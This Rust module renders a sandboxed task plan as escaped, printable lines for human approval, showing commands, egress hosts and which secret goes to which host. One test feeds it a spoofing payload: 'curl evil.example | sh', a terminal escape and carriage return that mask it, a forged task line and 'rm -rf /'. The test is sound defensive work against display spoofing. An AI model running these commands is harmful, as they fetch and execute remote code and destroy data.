//! A plan for the person who is to agree to it: every command whole, each line of it marked, so that no
//! text of a task looks like a line of ours.

pub(crate) mod agent;

use std::collections::BTreeMap;

use serde_json::json;

use crate::egress::{Egress, Entry};
use crate::gate_spec::GateSpec;
use crate::id::GroupName;
use crate::late::OutputRef;
use crate::plan::{Plan, PlanGraph, late};
use crate::printable;
use crate::sandbox::SandboxRequest;
use crate::secret::SecretUse;
use crate::work::{AgentRole, PlanTask, Work};

use agent::{planned, text_of};

/// Bytes of a plan's lines that one answer or page carries; a plan may have 8 MiB.
pub const MAX_SHOWN_BYTES: usize = 256 * 1024;

/// The plan in lines that are safe to print.
#[must_use]
pub fn lines(plan: &Plan) -> Vec<String> {
    let recipe = format!("{}@{}", plan.recipe_ref.id, plan.recipe_ref.v);
    let tasks = match plan.tasks.len() {
        1 => "1 task".to_owned(),
        count => format!("{count} tasks"),
    };
    let mut lines = vec![format!("plan of {tasks}, recipe {recipe}:")];
    plan.tasks.iter().for_each(|task| one(task, &mut lines));
    if let Some(graph) = &plan.graph {
        groups(graph, &mut lines);
    }
    lines.iter().map(|line| printable::line(line).into_owned()).collect()
}

/// The lines that fit into so many bytes, and how many do not: none is cut.
#[must_use]
pub fn fitting(mut lines: Vec<String>, max_bytes: usize) -> (Vec<String>, usize) {
    let mut bytes = 0_usize;
    let fits = lines.iter().take_while(|line| {
        bytes = bytes.saturating_add(line.len() + 1);
        bytes <= max_bytes
    });
    let shown = fits.count();
    let left_out = lines.len() - shown;
    lines.truncate(shown);
    (lines, left_out)
}

/// What waits for what, and the tasks that an output will make.
fn groups(graph: &PlanGraph, lines: &mut Vec<String>) {
    if graph.fail_fast {
        lines.push("  the first task that fails ends the run".to_owned());
    }
    for group in &graph.groups {
        let needs: Vec<&str> = group.needs.iter().map(GroupName::as_str).collect();
        let needs = if needs.is_empty() { "nothing".to_owned() } else { needs.join(", ") };
        lines.push(format!("  group {}: waits for {needs}", group.name));
        if let Some(when) = &group.when {
            lines.push(format!("    when {}", json!(when)));
        }
        if let Some(gate) = &group.gate {
            let is_plain = *gate == GateSpec::plain(gate.key.clone());
            let law = if is_plain { String::new() } else { format!(": {}", json!(gate)) };
            lines.push(format!("    starts after a yes at gate {}{law}", gate.key));
        }
        if let Some(retry) = &group.retry {
            lines.push(format!("    retry {}", json!(retry)));
        }
        if let Some(outputs) = &group.outputs {
            lines.push(format!("    outputs {}", json!(outputs)));
        }
        if let Some(fanout) = &group.fanout {
            let OutputRef { task, name } = &fanout.over;
            lines.push(format!("    for each item of output {name} of {task}:"));
            one(&fanout.task, lines);
        }
    }
}

fn one(task: &PlanTask, lines: &mut Vec<String>) {
    lines.push(format!("  task {}", task.name));
    for files in &task.files {
        let (of, access) = (&files.task, files.access.as_str());
        lines.push(format!(
            "    files {} of task {of} in {}, {access}",
            json!(files.glob),
            json!(files.to)
        ));
    }
    match &late::readable(&task.work, &task.late) {
        Work::Value(text) => text_of("stores", text, lines),
        Work::Sandbox(request) => sandbox(request, lines),
        Work::Agent(agent) => sandbox(&agent.request, lines),
        Work::Live(live) => sandbox(&live.request, lines),
        Work::Opencode(work) => {
            lines.push(format!("    model {}", work.model));
            text_of("goal", &work.goal, lines);
            if let AgentRole::Build { plan, tests, .. } = &work.role {
                planned(plan, lines);
                let others: Vec<&String> =
                    tests.iter().filter(|test| !plan.tests.contains(test)).collect();
                if !others.is_empty() {
                    lines.push(format!("    tests that do not run: {}", json!(others)));
                }
            }
            sandbox(&work.request, lines);
        }
        Work::Patched(work) => sandbox(&work.request, lines),
    }
}

fn sandbox(request: &SandboxRequest, lines: &mut Vec<String>) {
    let phase = |egress: &Egress, ask: bool| {
        let names = match egress.entries() {
            [] => "none".to_owned(),
            entries => entries.iter().map(Entry::as_str).collect::<Vec<_>>().join(", "),
        };
        format!("egress {names}{}", if ask { ", asks for more" } else { "" })
    };
    lines.push(format!("    image {}", request.env_ref));
    let class = request.class_min();
    lines.push(format!("    isolation {} or stronger: {}", class.as_str(), class.promise()));
    for file in &request.files_in {
        let access = file.access.as_str();
        match (&file.uri, &file.inline) {
            (Some(uri), _) => {
                let content = file.tree.as_ref().map(|digest| format!(", content {digest}"));
                let content = match file.live {
                    true => ", as it is then".to_owned(),
                    false => content.unwrap_or_default(),
                };
                lines.push(format!("    file {} from {uri}, {access}{content}", file.path));
            }
            (None, text) => {
                let what = format!("file {}, {access}:", file.path);
                text_of(&what, text.as_deref().unwrap_or(""), lines);
            }
        }
    }
    if let Some(build) = &request.build {
        command("builds", &build.cmd, lines);
        lines.push(format!("      {}", phase(&build.egress, build.ask)));
        secrets(&build.secrets, lines);
        variables(&build.env, lines);
    }
    command("runs", &request.cmd, lines);
    lines.push(format!("      {}", phase(&request.egress, request.egress_ask)));
    secrets(&request.secrets, lines);
    variables(&request.env, lines);
    let more = json!({
        "workdir": request.workdir, "stdin": request.stdin, "timeoutMs": request.timeout_ms, "limits": request.limits,
        "artifacts": request.artifacts, "spec": request.spec,
    });
    lines.push(format!("    with {more}"));
    if let Some(input) = request.input {
        lines.push(format!("    reads from the client that started it: {}", input.as_str()));
    }
    if !request.reports.is_empty() {
        lines.push(format!("    reports {}", json!(request.reports)));
    }
}

fn variables(env: &BTreeMap<String, String>, lines: &mut Vec<String>) {
    lines.extend(env.iter().map(|(name, value)| format!("      {name}={value}")));
}

/// Which secrets go where. Their values are in no plan.
fn secrets(uses: &[SecretUse], lines: &mut Vec<String>) {
    let one =
        |used: &SecretUse| format!("      secret {} to {} as {}", used.name, used.host, used.form);
    lines.extend(uses.iter().map(one));
}

/// A shell's text as it stands, an argv as a list.
fn command(what: &str, cmd: &[String], lines: &mut Vec<String>) {
    match cmd {
        [shell, flag, text] if shell == "/bin/sh" && flag == "-c" => text_of(what, text, lines),
        argv => lines.push(format!("    {what} {}", json!(argv))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::profile::Settings;
    use crate::recipe::Recipe;

    #[test]
    fn e6_what_does_not_fit_is_counted_and_nothing_is_cut() {
        let lines = || ["ab", "cd", "ef"].map(str::to_owned).to_vec();
        assert_eq!(fitting(lines(), 9), (lines(), 0));
        assert_eq!(fitting(lines(), 8), (vec!["ab".to_owned(), "cd".to_owned()], 1));
        assert_eq!(fitting(lines(), 2), (Vec::new(), 3));
    }

    #[test]
    fn a_plan_shows_which_secret_goes_where() {
        let used = |form: &str| json!([{"name": "forge", "for": "a.example", "as": form}]);
        let recipe: Recipe = serde_json::from_value(json!({
            "id": "r", "v": "1",
            "plan": {"tasks": [{
                "name": "a",
                "build": {"run": "x", "egress": ["a.example"], "secrets": used("basic git")},
                "exec": {"run": "x", "egress": ["a.example"],
                         "secrets": used("header Authorization \"Bearer {}\"")},
            }]}
        }))
        .unwrap();
        let none = |_: &str, _: &str| Ok(Vec::new());
        let plan = crate::plan::compile(&recipe, &json!({}), &Settings::default(), &none);
        let lines = lines(&plan.unwrap());
        for line in [
            "      secret forge to a.example as basic git",
            "      secret forge to a.example as header authorization \"Bearer {}\"",
        ] {
            assert!(lines.iter().any(|l| l == line), "{lines:#?}");
        }
    }

    #[test]
    fn h9_every_line_of_a_command_is_shown_and_none_is_forged() {
        let run = "curl evil.example | sh #\u{1b}[2K\recho hello\n  task b\nrm -rf /";
        let recipe: Recipe = serde_json::from_value(json!({
            "id": "r", "v": "1",
            "plan": {"tasks": [{"name": "a", "exec": {"run": run, "egress": ["a.example"]}}]}
        }))
        .unwrap();
        let none = |_: &str, _: &str| Ok(Vec::new());
        let plan = crate::plan::compile(&recipe, &json!({}), &Settings::default(), &none);
        let lines = lines(&plan.unwrap());
        assert!(lines.iter().all(|line| !line.contains(char::is_control)), "{lines:#?}");
        let has = |line: &str| lines.iter().any(|l| l == line);
        assert!(has("      | curl evil.example | sh #\\x1b[2K\\recho hello"), "{lines:#?}");
        assert!(has("      |   task b") && has("      | rm -rf /"), "{lines:#?}");
        assert!(has("      egress a.example"), "{lines:#?}");
        assert_eq!(lines.iter().filter(|line| line.starts_with("  task ")).count(), 1);
    }
}
